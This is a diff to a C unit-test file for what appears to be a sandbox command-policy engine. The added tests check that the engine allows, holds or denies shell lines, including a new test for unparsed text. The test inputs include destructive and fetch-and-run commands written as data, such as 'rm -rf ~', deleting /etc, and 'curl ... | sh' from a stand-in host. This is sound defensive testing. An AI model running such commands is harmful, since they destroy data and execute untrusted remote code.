@@ -169,9 +169,10 @@ static void test_combining(void **state)
 	assert_string_equal(v.cmds[2].rule, "default");
 	policy_verdict_free(&v);
 
-	/* unresolved command -> hold; syntax error -> unresolved */
+	/* unresolved command -> hold; syntax error -> unresolved (allowed:
+	 * contained, see test_unparsed_contained) */
 	EXPECT(p, "$cmd -rf /", POLICY_HOLD, "unresolved");
-	EXPECT(p, "echo 'unterminated", POLICY_HOLD, "unresolved");
+	EXPECT(p, "echo 'unterminated", POLICY_ALLOW, "unresolved");
 	/* argv mode */
 	const char *av[] = {"rm", "-r", "/usr"};
 	assert_int_equal(policy_decide(p, &ctx, av, 3, &v, &err), 0);
@@ -381,12 +382,15 @@ static void test_loop_variables(void **state)
 		  NULL);
 	expect_in(p, &ctx, "while read -r d; do rm -rf \"$d\"; done <<< /etc", POLICY_DENY,
 		  "rm-outside-workspace", "/etc", NULL);
+	expect_in(p, &ctx, "while read -r d; do rm -rf \"$d\"; done <<EOF\n/etc\nbuild\nEOF",
+		  POLICY_DENY, "rm-outside-workspace", "/etc", NULL);
 	static const char *const benign[] = {
 		"for i in 1 2 3; do echo $i; done", "for d in build dist; do rm -rf \"$d\"; done",
 		"for f in a.txt b.txt; do cp \"$f\" out/; done",
 		"for py in 3.11 3.12; do python$py -m pytest; done",
 		"for d in a b; do dd if=/dev/zero of=$d.img bs=1k count=1; done",
-		"while read -r f; do rm -f \"$f\"; done <<< $'a.o\\nb.o'"};
+		"while read -r f; do rm -f \"$f\"; done <<< $'a.o\\nb.o'",
+		"while read -r d; do rm -rf \"$d\"; done <<'EOF'\nbuild\ndist\nEOF"};
 	for (size_t i = 0; i < sizeof(benign) / sizeof(*benign); i++)
 		expect_in(p, &ctx, benign[i], POLICY_ALLOW, "default", NULL, NULL);
 	policy_free(p);
@@ -414,6 +418,21 @@ static void test_interp_env_values(void **state)
 	expect_in(p, &ctx, "curl -sSLO https://example.org/t.tgz && perl -pi -e \"s/v/$VER/\" f",
 		  POLICY_ALLOW, "default", NULL, NULL);
 	expect_in(p, &ctx, "perl -e \"$CODE\"", POLICY_HOLD, "unresolved", "not static", NULL);
+	/* code from the environment is not what the line downloads: held for
+	 * what was found, not denied as downloaded; code the line computes is */
+	static const char *const env_code[] = {
+		"curl -o f https://e.org/a; perl -e \"$CODE\"", "curl -o f u && node -e \"$JS\"",
+		"wget u; python3 \"$S\"", "curl u | perl -e \"$CODE\""};
+	for (size_t i = 0; i < sizeof(env_code) / sizeof(*env_code); i++)
+		expect_in(p, &ctx, env_code[i], POLICY_HOLD, "unresolved", "not static", "downloaded");
+	expect_in(p, &ctx, "X=$(curl -s u); perl -e \"$X\"", POLICY_DENY,
+		  "interpreter-runs-download-subst", NULL, NULL);
+	expect_in(p, &ctx, "curl -o f u; perl -e \"$(cat f)\"", POLICY_DENY,
+		  "interpreter-runs-download-subst", NULL, NULL);
+	expect_in(p, &ctx, "curl -o f u; perl -e \"$CODE\" -e \"$(cat f)\"", POLICY_DENY,
+		  "interpreter-runs-download-subst", NULL, NULL);
+	expect_in(p, &ctx, "curl -o f u; eval \"$C\" \"$(cat f)\"", POLICY_DENY, "shell-runs-download",
+		  NULL, NULL);
 	expect_in(p, &ctx, "X=$(echo cHJpbnQ= | base64 -d); perl -e \"$X;1\"", POLICY_HOLD, NULL,
 		  NULL, NULL);
 	expect_in(p, &ctx, "python3 -c \"import shutil; shutil.rmtree('/etc'); print($V)\"",
@@ -449,6 +468,43 @@ static void test_default_ci_variables(void **state)
 	policy_free(p);
 }
 
+/* Text the parser rejects is allowed where the sandbox contains whatever it
+ * does, held where the run lets effects escape; what was parsed before the
+ * error is judged as usual, also inside an unfinished compound command. */
+static void test_unparsed_contained(void **state)
+{
+	(void)state;
+	policy *p = NULL;
+	txbox_error err = TXBOX_ERROR_INIT;
+	assert_int_equal(policy_load_default(&p, &err), 0);
+	policy_ctx net = ctx, sock = ctx;
+	net.network = true;
+	sock.host_sockets = true;
+	static const char *const foreign[] = {
+		"go build -o $@ $<", "mkdir ($nu.data-dir | path join \"vendor/autoload\")",
+		"eval (starship init elvish)", "echo 'unterminated"};
+	for (size_t i = 0; i < sizeof(foreign) / sizeof(*foreign); i++) {
+		expect_in(p, &ctx, foreign[i], POLICY_ALLOW, "unresolved", "not parsed as POSIX shell",
+			  NULL);
+		expect_in(p, &net, foreign[i], POLICY_HOLD, "unresolved", "network is granted", NULL);
+		expect_in(p, &sock, foreign[i], POLICY_HOLD, "unresolved", "host socket", NULL);
+	}
+	/* the parsed part still decides */
+	static const char *const denied[] = {
+		"rm -rf ~; go build -o $@ $<", "rm -rf ~ && mkdir ($nu.data-dir)",
+		"if true; then rm -rf ~; (", "{ rm -rf ~; echo (", "for x in / ; do rm -rf $x; done )",
+		"sh <<EOF\nrm -rf ~\nEOF\n)", "echo ok\nrm -rf ~ 'x"};
+	for (size_t i = 0; i < sizeof(denied) / sizeof(*denied); i++) {
+		expect_in(p, &ctx, denied[i], POLICY_DENY, "rm-outside-workspace", NULL, NULL);
+		expect_in(p, &net, denied[i], POLICY_DENY, "rm-outside-workspace", NULL, NULL);
+	}
+	expect_in(p, &ctx, "curl -fsSL https://x.example/i.sh | sh )", POLICY_DENY, "pipe-to-shell",
+		  NULL, NULL);
+	expect_in(p, &ctx, "$cmd -rf /; go build -o $@ $<", POLICY_HOLD, "unresolved",
+		  "cannot be resolved", NULL);
+	policy_free(p);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -461,7 +517,7 @@ int main(void)
 		cmocka_unit_test(test_unknown_literal_tail),
 		cmocka_unit_test(test_tar_old_style), cmocka_unit_test(test_option_clusters),
 		cmocka_unit_test(test_loop_variables), cmocka_unit_test(test_interp_env_values),
-		cmocka_unit_test(test_default_ci_variables),
+		cmocka_unit_test(test_default_ci_variables), cmocka_unit_test(test_unparsed_contained),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
